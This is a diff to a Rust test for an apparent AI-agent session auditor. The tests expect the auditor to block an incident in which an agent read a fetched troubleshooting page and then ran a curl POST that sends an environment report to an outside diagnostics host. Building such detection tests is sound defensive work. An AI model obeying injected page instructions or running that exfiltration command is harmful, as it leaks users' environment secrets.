@@ -40,8 +40,23 @@ fn demo_replays_incidents_and_leaves_nothing_behind() {
         .expect("run");
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     let text = stdout(&out);
-    assert!(text.contains("Incident 2") && text.contains("Incident 3"));
-    assert_eq!(text.matches("verdict BLOCK").count(), 2, "{text}");
+    assert!(
+        text.contains("Incident 1") && text.contains("Incident 2") && text.contains("Incident 3")
+    );
+    assert_eq!(text.matches("verdict BLOCK").count(), 3, "{text}");
+    // Incident 1: a clean diff, blocked by what the session log shows.
+    assert!(
+        text.contains("block exfiltration .remit/sessions/7c2e41d0-payments.jsonl:6"),
+        "{text}"
+    );
+    assert!(
+        text.contains("block prompt-injection .remit/sessions/7c2e41d0-payments.jsonl:6"),
+        "{text}"
+    );
+    assert!(
+        text.contains("fetch https://docs.payflow-sdk.dev/troubleshooting/refunds at seq 4 → ran `curl -s -X POST https://diag.payflow-sdk.dev/v1/env-report"),
+        "{text}"
+    );
     assert!(text.contains("protected-path [pipeline] .github/workflows/release.yml"));
     assert!(text.contains("protected-path [auth] src/auth/session.py"));
     assert!(!text.contains("\x1b["), "no colour when not a terminal");
@@ -103,8 +118,9 @@ fn several_formats_to_files() {
     let json: serde_json::Value =
         serde_json::from_slice(&std::fs::read(dir.path().join("r.json")).expect("file"))
             .expect("json");
-    assert_eq!(json["verdict"], "pass");
-    assert!(stdout(&out).contains("verdict PASS"));
+    // Only the log-missing warning: no audit log was committed.
+    assert_eq!(json["verdict"], "warn");
+    assert!(stdout(&out).contains("verdict WARN"));
 }
 
 #[test]
